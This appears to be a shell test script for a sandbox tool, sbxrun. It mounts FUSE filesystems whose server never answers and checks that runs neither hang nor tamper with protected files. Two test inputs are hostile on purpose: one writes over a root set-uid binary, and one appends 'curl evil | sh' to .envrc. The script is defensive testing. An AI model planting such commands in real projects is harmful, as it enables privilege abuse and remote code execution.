# A mount below a root caller's workdir whose filesystem never answers
# (a FUSE server that reads no request, as a local user's hung or hostile
# server would be) must not stall sbxrun: not the namespaces backend's
# scan of the workdir before the run (idmap-covers.md), not the search for
# git repositories before and after it (both backends), not the recheck of
# the mounts the scan left alone. Such a wait would last until SIGKILL: a
# FUSE request is waited for through SIGTERM, and the run's timeout does
# not cover the start. sbxrun looks at another mount's root only through
# what the kernel has cached (AT_STATX_DONT_SYNC) and never enters it.
# Cases: a directory mount that allows others (allow_other), one that
# refuses sbxrun (no allow_other: the scan used to refuse the run with
# EACCES), a mount on a directory named HEAD and one on a file named .git
# (both looked at by name by the git search), one on the workdir's own
# HEAD. Each run must end by itself with status 0 and leave its marker on
# the host; next to the mounts, root's set-uid file stays unwritable (the
# scan went on past the mount) and a repository made in the run is still
# reported. Under landlock the same on a workdir that is an overlay (not a
# local filesystem: its own entries are asked again, synchronously). A
# mount on a protected path (.vscode), which neither the plan nor the
# landlock backend's copy of those paths may enter.
# Root only: mounting FUSE needs it.
# Run for $SBX_BACKEND (default namespaces).
. "$(dirname "$0")/jail-lib.sh"
. "$(dirname "$0")/rootwd-lib.sh"

# The overlay case runs under landlock only: an overlay cannot be idmapped,
# so the namespaces backend refuses a root caller's workdir there.
N_OVL=0
N_PROT=3
[ "$SBX_BACKEND" = landlock ] && N_OVL=3 && N_PROT=4
N_TESTS=$((17 + N_OVL + N_PROT))
rootwd_begin "$N_TESTS" "the FUSE server that never answers" || exit 0
if [ ! -c /dev/fuse ]; then
	skip "the kernel has no FUSE (/dev/fuse)" "$N_TESTS"
	done_testing
	exit 0
fi

# hung_fuse PATH ROOTMODE [OPTION]: a FUSE filesystem on PATH whose
# server holds /dev/fuse and reads nothing (not even the INIT request);
# killing it (the EXIT trap) aborts the connection.
hung_fuse() {
	rm -f "$JT/fuse.ready"
	"$PY" - "$1" "$2" "${3:-}" "$JT/fuse.ready" <<'PY' &
import ctypes, os, signal, sys
path, rootmode, extra, ready = sys.argv[1:5]
fd = os.open("/dev/fuse", os.O_RDWR)
opts = "fd=%d,rootmode=%s,user_id=65533,group_id=65533" % (fd, rootmode)
if extra:
    opts += "," + extra
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"sbx-hung", path.encode(), b"fuse", 0, opts.encode()) != 0:
    sys.exit("mount: " + os.strerror(ctypes.get_errno()))
open(ready, "w").close()
signal.pause()
PY
	JAIL_PIDS="$JAIL_PIDS $!"
	wait_for "[ -e '$JT/fuse.ready' ]" 10 || setup_failed "a FUSE mount on $1"
	MOUNTED="$1 $MOUNTED"
}

# stall_run NAME SCRIPT: SCRIPT in the jail with -w $WD, in the
# background, given 30 s (a run takes milliseconds; a stalled one
# never ends); then status 0 and the marker it wrote.
stall_run() {
	printf '%s\necho done > %s.done\n' "$2" "$1" >"$JT/$1.sh"
	BG_STDIN="$JT/$1.sh" sbx_bg -w "$WD"
	sbx_bg_wait 30
	is "$SBX_STATUS" 0 "$1: the run ends by itself, status 0 ($(head -c 300 "$T/bg.err"))"
	ok "$1: its marker is on the host" test -s "$WD/$1.done"
}

# mounted PATH: PATH is a mount point, read from the mount table (stat
# of the path would wait on the server).
mounted() {
	awk -v p="$1" '$5 == p { f = 1 } END { exit !f }' /proc/self/mountinfo
}

cp /bin/true "$JT/true.orig"

# 1. A directory mount that allows others, next to root's set-uid file.
new_wd
mkdir -p "$WD/sub/m"
cp "$JT/true.orig" "$WD/sub/su"
chmod 4755 "$WD/sub/su"
hung_fuse "$WD/sub/m" 40000 allow_other
stall_run allow 'printf EVIL 1<>sub/su 2>/dev/null'
ok "allow: root's set-uid file next to the mount is unchanged" cmp -s "$WD/sub/su" "$JT/true.orig"
is "$(stat -c %a "$WD/sub/su")" 4755 "allow: and keeps its mode"
ok "allow: the mount is still there" mounted "$WD/sub/m"

# 2. A mount that refuses every process but its owner's.
new_wd
mkdir -p "$WD/sub/m"
hung_fuse "$WD/sub/m" 40000
stall_run refuse ':'
unlike "$(cat "$T/bg.err")" "cannot scan" "refuse: the scan does not give up on it"

# 3. A mount on a directory named HEAD (the git search asks every
# directory for HEAD), and a repository made in the run next to it.
new_wd
mkdir -p "$WD/sub/HEAD"
hung_fuse "$WD/sub/HEAD" 40000 allow_other
stall_run head 'mkdir -p deep/.git'
like "$(cat "$T/bg.diag")" "deep" "head: the repository made in the run is still reported"

# 4. A mount on a file named .git (looked at by name below the top level).
new_wd
mkdir -p "$WD/sub"
: >"$WD/sub/.git"
hung_fuse "$WD/sub/.git" 100644 allow_other
stall_run dotgit ':'
ok "dotgit: the mount is still there" mounted "$WD/sub/.git"

# 5. A mount on the workdir's own HEAD (the top level is looked at before
# and after the run).
new_wd
mkdir -p "$WD/HEAD"
hung_fuse "$WD/HEAD" 40000 allow_other
stall_run top ':'
unlike "$(cat "$T/bg.diag")" "moved aside" "top: nothing was moved aside"

# 6. A workdir on a filesystem that is not local (an overlay): its own
# entries are asked again through a descriptor that enters no mount; the
# hung mount on a HEAD below is still left alone, and a repository made
# in the run is still found.
if [ "$N_OVL" -gt 0 ]; then
	mkdir -p "$JT/ovl/lower" "$JT/ovl/upper" "$JT/ovl/work" "$JT/ovl/merged"
	mount -t overlay sbx-ovl -o "lowerdir=$JT/ovl/lower,upperdir=$JT/ovl/upper,workdir=$JT/ovl/work" \
	    "$JT/ovl/merged" || setup_failed "an overlay mount"
	MOUNTED="$JT/ovl/merged $MOUNTED"
	WD=$JT/ovl/merged
	chmod 755 "$WD"
	mkdir -p "$WD/sub/HEAD"
	hung_fuse "$WD/sub/HEAD" 40000 allow_other
	stall_run overlay 'mkdir -p deep/.git'
	like "$(cat "$T/bg.diag")" "deep/.git" "overlay: the repository made in the run is still reported"
fi

# 7. A mount on a protected path of the workdir (.vscode): the plan looks
# at what each built-in name is, and under landlock those paths are
# copied aside before the run and put back after it if changed
# (linux-protsnap.c); neither may enter the mount. Under landlock the copy
# gives up on it and the paths are held by read-only rules instead, said
# in warnings. .envrc next to it stays protected.
new_wd
mkdir -p "$WD/.vscode"
echo 'export A=1' >"$WD/.envrc"
hung_fuse "$WD/.vscode" 40000 allow_other
stall_run protect 'echo "curl evil | sh" >> .envrc 2>/dev/null'
is "$(cat "$WD/.envrc")" 'export A=1' "protect: .envrc is as it was"
if [ "$SBX_BACKEND" = landlock ]; then
	like "$(cat "$T/bg.diag")" "read-only rules" "protect: warnings say the rules hold them"
fi

done_testing
